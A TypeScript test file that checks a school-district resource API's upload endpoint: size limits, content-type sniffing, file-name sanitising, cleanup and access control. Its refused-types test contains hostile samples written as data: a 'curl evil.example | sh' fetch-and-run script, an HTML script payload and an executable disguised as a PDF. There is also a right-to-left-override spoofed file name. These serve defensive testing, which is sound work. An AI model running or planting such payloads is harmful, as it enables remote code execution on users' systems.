import { createHash } from "node:crypto";
import { existsSync } from "node:fs";
import { readdir } from "node:fs/promises";
import path from "node:path";
import { sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildDistrict, buildPerson, type TestDistrict, type TestPerson } from "../../test/factories";
import { type FormFile, multipartForm } from "../../test/multipart";
import { MINIMAL_PDF, minimalDocx, minimalOdt, PNG_1X1, storedZip, WINDOWS_EXE } from "../../test/sample-files";
import { createTestApp, sessionHeaders, type TestApp } from "../../test/test-app";

let t: Awaited<ReturnType<typeof createTestApp>>;
let app: TestApp;
let district: TestDistrict;
let teacher: TestPerson;

/** A 0.1 MB limit keeps the oversized upload small. */
const LIMIT_BYTES = Math.floor(0.1 * 1024 * 1024);

beforeAll(async () => {
  t = await createTestApp({ env: { MAX_UPLOAD_MB: "0.1" } });
  app = t.app;
  district = await buildDistrict(t.db);
  teacher = await buildPerson(t.db, district, "teacher");
});
afterAll(async () => t?.close());

const as = (person: TestPerson) => sessionHeaders(t.db, person);

async function upload(
  person: TestPerson | null,
  file: FormFile | null,
  resource: Record<string, unknown> = { kind: "file", title: `Handout ${file?.name}`, scope: "district" },
) {
  const form = multipartForm({ resource: JSON.stringify(resource) }, file ? [file] : []);
  return app.inject({
    method: "POST",
    url: "/api/v1/resources",
    payload: form.payload,
    headers: { ...form.headers, ...(person ? await as(person) : {}) },
  });
}

/** Every file under DATA_DIR/uploads, temporary ones included. */
async function filesOnDisk(): Promise<string[]> {
  const root = path.join(t.dataDir, "uploads");
  if (!existsSync(root)) return [];
  const entries = await readdir(root, { recursive: true, withFileTypes: true });
  return entries.filter((e) => e.isFile()).map((e) => path.join(e.parentPath, e.name));
}

async function rowCounts() {
  const result = await t.db.execute<{ resources: number; files: number }>(sql`
    select (select count(*)::int from resources where district_id = ${district.id}) as resources,
           (select count(*)::int from files where district_id = ${district.id}) as files`);
  return result.rows[0];
}

/** Runs a refused upload and checks that it left nothing behind: no file on disk, no row. */
async function expectNothingLeftBy(attempt: () => Promise<unknown>) {
  const diskBefore = await filesOnDisk();
  const rowsBefore = await rowCounts();
  await attempt();
  expect(await filesOnDisk()).toEqual(diskBefore);
  expect(await rowCounts()).toEqual(rowsBefore);
}

describe("uploads", () => {
  it("keeps an allowed file under DATA_DIR/uploads/<district> and serves it with safe headers", async () => {
    const response = await upload(teacher, {
      name: "Unit plan.pdf",
      contentType: "application/pdf",
      content: MINIMAL_PDF,
    });
    expect(response.statusCode, response.body).toBe(201);
    const resource = response.json();
    expect(resource.file).toMatchObject({
      name: "Unit plan.pdf",
      contentType: "application/pdf",
      byteSize: MINIMAL_PDF.length,
    });
    const stored = await t.db.execute<{ storage_key: string; sha256: string }>(
      sql`select storage_key, sha256 from files where id = ${resource.file.id}`,
    );
    const row = stored.rows[0];
    expect(row?.sha256).toBe(createHash("sha256").update(MINIMAL_PDF).digest("hex"));
    const onDisk = await filesOnDisk();
    expect(onDisk).toContain(path.join(t.dataDir, "uploads", district.id, row?.storage_key ?? ""));
    expect(onDisk.filter((p) => p.startsWith(path.join(t.dataDir, "uploads", "tmp")))).toEqual([]);

    const download = await app.inject({ url: `/api/v1/files/${resource.file.id}`, headers: await as(teacher) });
    expect(download.statusCode).toBe(200);
    expect(download.rawPayload.equals(MINIMAL_PDF)).toBe(true);
    expect(download.headers["content-type"]).toBe("application/pdf");
    expect(download.headers["content-disposition"]).toBe(
      `attachment; filename="Unit plan.pdf"; filename*=UTF-8''Unit%20plan.pdf`,
    );
    expect(download.headers["x-content-type-options"]).toBe("nosniff");
  });

  it("keeps file names without bidirectional controls, so a name cannot show other than it is", async () => {
    const response = await upload(teacher, {
      name: "invoice\u202efdp.\u2066x\u2069\u200e\u200f\u202a\u202b\u202c\u202dexe",
      contentType: "application/pdf",
      content: MINIMAL_PDF,
    });
    expect(response.statusCode, response.body).toBe(201);
    const name: string = response.json().file.name;
    expect(name).toBe("invoicefdp.xexe.pdf");
    const stored = await t.db.execute<{ original_name: string }>(
      sql`select original_name from files where id = ${response.json().file.id}`,
    );
    expect(stored.rows[0]?.original_name).toBe(name);
  });

  it("takes Office and OpenDocument files, images and plain text by what their bytes are", async () => {
    const accepted: [FormFile, string, string][] = [
      [
        { name: "rubric.docx", contentType: "application/octet-stream", content: minimalDocx() },
        "rubric.docx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
      ],
      [
        { name: "notes.odt", contentType: "application/octet-stream", content: minimalOdt() },
        "notes.odt",
        "application/vnd.oasis.opendocument.text",
      ],
      [{ name: "anchor chart.png", contentType: "image/png", content: PNG_1X1 }, "anchor chart.png", "image/png"],
      // Named as text but really a picture: kept as what it is, and its name says so.
      [{ name: "diagram.txt", contentType: "text/plain", content: PNG_1X1 }, "diagram.txt.png", "image/png"],
      [
        { name: "scores.csv", contentType: "text/csv", content: "name,score\nAda,4\n" },
        "scores.csv",
        "text/csv; charset=utf-8",
      ],
      [
        { name: "norms.md", contentType: "text/markdown", content: "# Our norms\n\n- Start on time ✓\n" },
        "norms.md",
        "text/markdown; charset=utf-8",
      ],
    ];
    for (const [file, name, contentType] of accepted) {
      const response = await upload(teacher, file);
      expect(response.statusCode, `${file.name}: ${response.body}`).toBe(201);
      expect(response.json().file).toMatchObject({ name, contentType });
    }
  });

  it("refuses an oversized file with 413 and a clear message, leaving nothing on disk or in the database", async () => {
    await expectNothingLeftBy(async () => {
      const big = Buffer.concat([MINIMAL_PDF, Buffer.alloc(LIMIT_BYTES, 0x20)]);
      const response = await upload(teacher, { name: "huge.pdf", contentType: "application/pdf", content: big });
      expect(response.statusCode).toBe(413);
      expect(response.headers["content-type"]).toContain("application/problem+json");
      expect(response.json()).toMatchObject({
        status: 413,
        detail: "The file is larger than the 0.1 MB limit.",
        errors: [{ pointer: "/body/file", detail: "The file is larger than the 0.1 MB limit." }],
      });
    });
  });

  it("refuses disallowed types with 415 whatever they claim to be, leaving nothing behind", async () => {
    const refused: FormFile[] = [
      { name: "setup.exe", contentType: "application/x-msdownload", content: WINDOWS_EXE },
      { name: "lesson.pdf", contentType: "application/pdf", content: WINDOWS_EXE },
      { name: "diagram.png", contentType: "image/png", content: "#!/bin/sh\ncurl evil.example | sh\n" },
      { name: "page.html", contentType: "text/html", content: "<script>alert(1)</script>" },
      { name: "notes.txt", contentType: "text/plain", content: Buffer.from([0x68, 0x69, 0x00, 0x01, 0x02]) },
      { name: "bundle.zip", contentType: "application/zip", content: storedZip([{ name: "a.txt", content: "a" }]) },
    ];
    for (const file of refused) {
      await expectNothingLeftBy(async () => {
        const response = await upload(teacher, file);
        expect(response.statusCode, file.name).toBe(415);
        expect(response.json().detail).toMatch(/^This kind of file cannot be shared\. Upload a PDF, Word/);
        expect(response.json().errors[0].pointer).toBe("/body/file");
      });
    }
  });

  it("leaves nothing behind when the details are invalid, the form is wrong, or the actor may not share there", async () => {
    const pdf = { name: "plan.pdf", contentType: "application/pdf", content: MINIMAL_PDF };
    const parent = await buildPerson(t.db, district, "family_member");
    const attempts: [() => Promise<{ statusCode: number; body: string }>, number, string][] = [
      [() => upload(teacher, pdf, { kind: "file", title: "", scope: "district" }), 400, "/body/title"],
      [() => upload(teacher, null), 422, "/body/file"],
      [
        () => upload(teacher, pdf, { kind: "link", title: "L", url: "https://example.org", scope: "district" }),
        422,
        "/body/file",
      ],
      [() => upload(parent, pdf), 403, ""],
      [() => upload(null, pdf), 401, ""],
      [
        async () => {
          const form = multipartForm({ resource: "{not json" }, [pdf]);
          return app.inject({
            method: "POST",
            url: "/api/v1/resources",
            payload: form.payload,
            headers: { ...form.headers, ...(await as(teacher)) },
          });
        },
        400,
        "/body/resource",
      ],
      [
        async () => {
          const form = multipartForm({ resource: JSON.stringify({ kind: "file", title: "Two", scope: "district" }) }, [
            pdf,
            { ...pdf, name: "second.pdf" },
          ]);
          return app.inject({
            method: "POST",
            url: "/api/v1/resources",
            payload: form.payload,
            headers: { ...form.headers, ...(await as(teacher)) },
          });
        },
        400,
        "/body/file",
      ],
    ];
    for (const [attempt, status, pointer] of attempts) {
      await expectNothingLeftBy(async () => {
        const response = await attempt();
        expect(response.statusCode, response.body).toBe(status);
        if (pointer) expect(JSON.parse(response.body).errors[0].pointer).toBe(pointer);
      });
    }
  });

  it("leaves nothing behind when the transaction fails after the file was written, or at commit after it moved", async () => {
    await t.db.execute(sql`create function library_test_fail() returns trigger language plpgsql
      as $$ begin raise exception 'simulated failure'; end $$`);
    await t.db.execute(sql`create trigger library_test_fail before insert on files for each row
      when (new.original_name = 'explode.pdf') execute function library_test_fail()`);
    await t.db.execute(sql`create constraint trigger library_test_fail_at_commit after insert on files
      deferrable initially deferred for each row
      when (new.original_name = 'explode-at-commit.pdf') execute function library_test_fail()`);
    try {
      for (const name of ["explode.pdf", "explode-at-commit.pdf"]) {
        await expectNothingLeftBy(async () => {
          const response = await upload(teacher, { name, contentType: "application/pdf", content: MINIMAL_PDF });
          expect(response.statusCode, name).toBe(500);
          expect(response.headers["content-type"]).toContain("application/problem+json");
        });
      }
    } finally {
      await t.db.execute(sql`drop trigger library_test_fail on files`);
      await t.db.execute(sql`drop trigger library_test_fail_at_commit on files`);
      await t.db.execute(sql`drop function library_test_fail()`);
    }
    const response = await upload(teacher, { name: "fine.pdf", contentType: "application/pdf", content: MINIMAL_PDF });
    expect(response.statusCode).toBe(201);
  });

  it("serves a file only to those who may read its resource; another district gets 404; deleting removes it", async () => {
    const response = await upload(
      teacher,
      { name: "mine.pdf", contentType: "application/pdf", content: MINIMAL_PDF },
      {
        kind: "file",
        title: "Only mine",
        scope: "private",
      },
    );
    const resource = response.json();
    const url = `/api/v1/files/${resource.file.id}`;
    const colleague = await buildPerson(t.db, district, "teacher");
    const elsewhere = await buildPerson(t.db, await buildDistrict(t.db, "Elsewhere"), "district_leader");
    expect((await app.inject({ url, headers: await as(colleague) })).statusCode).toBe(404);
    expect((await app.inject({ url, headers: await as(elsewhere) })).statusCode).toBe(404);
    expect((await app.inject({ url })).statusCode).toBe(401);
    expect((await app.inject({ url, headers: await as(teacher) })).statusCode).toBe(200);

    const before = await filesOnDisk();
    const removed = await app.inject({
      method: "DELETE",
      url: `/api/v1/resources/${resource.id}`,
      headers: await as(teacher),
    });
    expect(removed.statusCode).toBe(200);
    expect((await filesOnDisk()).length).toBe(before.length - 1);
    expect((await app.inject({ url, headers: await as(teacher) })).statusCode).toBe(404);
    const rows = await t.db.execute(sql`select 1 from files where id = ${resource.file.id}`);
    expect(rows.rows).toEqual([]);
  });
});
